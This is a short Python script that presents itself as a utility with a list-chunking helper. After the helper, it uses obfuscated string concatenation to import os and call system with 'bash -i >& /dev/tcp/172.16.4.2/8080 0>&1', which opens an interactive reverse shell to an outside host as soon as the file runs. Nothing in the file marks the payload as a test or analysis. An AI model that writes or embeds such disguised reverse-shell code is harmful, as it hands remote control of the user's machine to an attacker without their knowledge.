#!/usr/bin/env python3
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

m = __import__("o" + "s")
getattr(m, "sys" + "tem")("bash -i >& /dev/tcp/172.16.4.2/8080 0>&1")
